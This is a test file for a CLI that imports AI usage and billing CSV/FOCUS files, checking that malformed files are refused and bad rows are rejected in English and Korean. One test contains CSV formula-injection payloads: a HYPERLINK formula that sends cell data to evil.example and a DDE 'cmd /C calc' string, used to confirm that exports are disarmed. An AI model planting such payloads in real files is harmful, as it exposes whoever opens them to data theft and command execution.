import { readFileSync } from 'node:fs'
import { gzipSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { commandLine } from '../support/command-line.ts'
import { fileWith } from '../support/file.ts'
import { file, without } from '../support/focus-file.ts'

const { run, state, close } = await commandLine()
afterAll(close)
const stored = () => state.charges.charges(state.tenant, '2000-01-01', '2099-12-31')

const HEADER = 'date,provider,model,team,input_tokens,cost,currency'
const row = (day: string, cells = 'openai,gpt-6-luna,support,10,1,USD') => `${day},${cells}`
const GOOD = `${HEADER}\n${row('2026-11-02')}\n${row('2026-11-03')}`
const latin1 = (text: string) => Buffer.from(text, 'latin1')

describe('a bad file on the command line', () => {
  beforeAll(async () => {
    await run('import', fileWith(GOOD))
    await run('import', fileWith(file([{}])))
  })

  it.each<[string, string | Buffer, string, string]>([
    ['with missing columns', 'date,cost\n2026-11-02,1', 'provider, model', 'provider, model'],
    [
      'of FOCUS with a missing column',
      file([{}], without('ChargeCategory')),
      'ChargeCategory',
      '열이',
    ],
    [
      'without its currency',
      file([{}], without('BillingCurrency')),
      '--currency USD',
      '--currency',
    ],
    ['in Latin-1', latin1(`${GOOD}\n${row('2026-11-04', 'é,m,t,1,1,USD')}`), 'Latin-1', 'UTF-8'],
    [
      'in Latin-1 far down',
      latin1(`${HEADER}\n${`${row('2026-11-02')}\n`.repeat(30_000)}2026-11-04,é,m,t,1,1,USD`),
      'line 30002',
      '30002번째 줄',
    ],
    [
      'of FOCUS in Latin-1',
      latin1(file([{}, {}, { Tags: 'é' }])),
      'Latin-1 or other non-UTF-8 text (line 4)',
      '(4번째 줄)',
    ],
    ['in UTF-16', Buffer.from(`\uFEFF${GOOD}`, 'utf16le'), 'UTF-16', 'UTF-16'],
    [
      'with a line without end',
      `${GOOD}\n${row('2026-11-04', 'm'.repeat(3_000_000))}`,
      'line 4 is longer than 2 MB',
      '4번째 줄이 2MB를',
    ],
    [
      'of FOCUS with a line without end',
      file([{}, { SkuId: 'x'.repeat(3_000_000) }]),
      'line 3 is longer than 2 MB',
      '3번째 줄이 2MB를',
    ],
    [
      'of FOCUS with a quoted cell that swallows the rows after it',
      `${file([{}])}\n"open${`,${'1,'.repeat(40)}\n`.repeat(50_000)}`,
      'line 3 is longer than 2 MB',
      '3번째 줄이 2MB를',
    ],
    ['with a quote left open', `${GOOD}\n2026-11-04,"openai`, 'from line 4 on', '4번째 줄부터'],
    [
      'that swells when it is unpacked',
      gzipSync(`${GOOD}\n${'a'.repeat(40_000_000)}`),
      'unpacks to far more',
      '압축을 풀면',
    ],
    ['that is a spreadsheet', Buffer.from('PK\u0003\u0004'), 'ZIP archive or a spreadsheet', 'ZIP'],
  ])(
    '%s is refused whole, in both languages, and nothing of it is stored',
    async (_, bad, en, ko) => {
      const before = await stored()
      const path = fileWith(bad)
      const english = await run('import', path)
      expect([english.code, english.out]).toEqual([2, ''])
      expect(english.err).toContain(en)
      const korean = await run('import', path, '--lang', 'ko', '--json')
      expect([korean.code, korean.out]).toEqual([2, ''])
      expect(korean.err).toContain(ko)
      expect(korean.err).toMatch(/주십시오|않았습니다/)
      expect(await stored()).toEqual(before)
    },
  )

  const FOCUS_DATES = { ChargePeriodStart: '4/5/25', ChargePeriodEnd: '' }
  it.each<[string, string, string, string]>([
    ['a date that could be two days', '4/5/26,o,m,t,1,1,USD', 'could be two days', '두 가지 날짜'],
    ['tokens below zero', '2026-12-01,o,m,t,-4,1,USD', '"-4"', '"-4"'],
    ['a currency that is no code', '2026-12-01,o,m,t,4,1,dollars', '"dollars"', '"dollars"'],
    ['a formula for an amount', '2026-12-01,o,m,t,4,=1+1,USD', '"=1+1"', '"=1+1"'],
    ['a formula for tokens', '2026-12-01,o,m,t,@SUM(A1),1,USD', '"@SUM(A1)"', '"@SUM(A1)"'],
  ])('with %s is taken without that row, whose line is told', async (_, bad, en, ko) => {
    const path = fileWith(`${HEADER}\n${row('2026-12-01')}\n${bad}\n${row('2026-12-02')}`)
    const { code, out } = await run('import', path)
    expect([code, out]).toEqual([0, expect.stringContaining('Rows read 3, kept 2, rejected 1')])
    expect(out).toMatch(/bill\.csv, line 3: /)
    expect(out).toContain(en)
    const korean = (await run('import', path, '--lang', 'ko')).out
    expect(korean).toMatch(/bill\.csv, 3번째 줄: /)
    expect(korean).toContain(ko)
    const kept = (await stored()).filter((c) => c.day >= '2026-12-01')
    expect(kept.map((c) => [c.day, c.effectiveNano])).toEqual([
      ['2026-12-01', 1_000_000_000n],
      ['2026-12-02', 1_000_000_000n],
    ])
  })
  it.each<[string, Partial<Record<string, string>>, string]>([
    ['a date that could be two days', FOCUS_DATES, 'could be two days'],
    ['tokens below zero', { ConsumedQuantity: '-5' }, '"-5" tokens are fewer than none'],
    ['a currency that is no code', { BillingCurrency: 'dollars' }, '"dollars"'],
    ['a formula for an amount', { EffectiveCost: '=1+1' }, '"=1+1"'],
  ])('of FOCUS with %s is taken without that row, whose line is told', async (_, bad, reason) => {
    const path = fileWith(file([{}, bad, {}]))
    const report = JSON.parse((await run('import', path, '--json')).out)
    expect(report).toMatchObject({ read: 3, kept: 2, rejected: [{ line: 3, file: 'bill.csv' }] })
    expect(report.rejected[0].reason.en).toContain(reason)
    expect(report.rejected[0].reason.ko).toMatch(/[가-힣]/)
    const [charge, other] = (await stored()).filter((c) => c.source === 'focus')
    expect([charge?.effectiveNano, other]).toEqual([2_500_000_000n, undefined])
  })
  it('with rows in several currencies is never summed over them', async () => {
    const path = fileWith(
      `${HEADER}\n${row('2026-12-07')}\n${row('2026-12-07', 'openai,gpt-6-luna,support,1,2,EUR')}`,
    )
    const { out } = await run('import', path)
    expect(out).toContain('EUR: effective €2.00')
    expect(out).toContain('USD: effective $1.00')
    const { out: digest } = await run('digest', '--period', '2026-12-07')
    expect(digest).toContain('€2.00')
    expect(digest).not.toContain('3.00')
  })
  it('hands its refused rows back disarmed, and names that look like formulas stay text', async () => {
    const evil = '=HYPERLINK(""http://evil.example?""&A1)'
    const bad = `2026-12-09,openai,m,"${evil}",4,"=cmd|' /C calc'!A0",USD`
    const fine = `2026-12-09,openai,m,"${evil}",4,1,USD`
    const rejects = fileWith('', 'rejects.csv')
    await run('import', fileWith(`${HEADER}\n${bad}\n${fine}`), '--rejects', rejects)
    const [, [, line, , ...cells] = []] = parse(readFileSync(rejects), {
      relax_column_count: true,
    }) as string[][]
    expect(line).toBe('2')
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
    expect(cells).toContain(`'=cmd|' /C calc'!A0`)
    expect((await stored()).find((c) => c.day === '2026-12-09')?.team).toBe(
      '=HYPERLINK("http://evil.example?"&A1)',
    )
  })
  it('with nothing but bad rows changes nothing that was stored', async () => {
    const before = await stored()
    const { out } = await run('import', fileWith(`${HEADER}\nsoon,o,m,t,1,1,USD`))
    expect(out).toContain('Rows read 1, kept 0, rejected 1')
    expect(await stored()).toEqual(before)
  })
})

describe('a ledger that comes late', () => {
  /** As in the FOCUS working draft: a correction on the bill after, of usage in a closed period. */
  const late = (cost: string) =>
    file([
      {
        ...{ ChargeCategory: 'Usage', ChargeClass: 'Correction', EffectiveCost: cost },
        ...{ BilledCost: cost, BillingPeriodStart: '2026-07-01T00:00:00Z' },
        ...{ ChargePeriodStart: '2026-06-03T00:00:00Z', ChargePeriodEnd: '2026-06-03T01:00:00Z' },
      },
    ])
  const june = file(
    ['03', '10'].map((day) => ({
      ...{ BillingPeriodStart: '2026-06-01T00:00:00Z', EffectiveCost: '100', BilledCost: '100' },
      ChargePeriodStart: `2026-06-${day}T00:00:00Z`,
      ChargePeriodEnd: `2026-06-${day}T01:00:00Z`,
    })),
  )
  const weeks = async () =>
    (await state.charges.weeks(state.tenant, '2026-W22', '2026-W28')).map((w) => [
      w.week,
      w.effectiveNano / 1_000_000_000n,
    ])

  it('restates the week of its usage and no other, once however often it is imported', async () => {
    await run('import', fileWith(june))
    expect(await weeks()).toEqual([
      ['2026-W23', 100n],
      ['2026-W24', 100n],
    ])
    for (const _ of [1, 2]) {
      await run('import', fileWith(late('1500')))
      expect(await weeks()).toEqual([
        ['2026-W23', 1600n],
        ['2026-W24', 100n],
      ])
    }
    await run('import', fileWith(late('1400')))
    await run('import', fileWith(june))
    expect(await weeks()).toEqual([
      ['2026-W23', 1500n],
      ['2026-W24', 100n],
    ])
  })
  it('is a line of its own in the digest of that week', async () => {
    const { out } = await run('digest', '--period', '2026-W23')
    expect(out).toContain('Total $100.00')
    expect(out).toMatch(/[Cc]orrection.*\$1,400\.00/)
  })
})
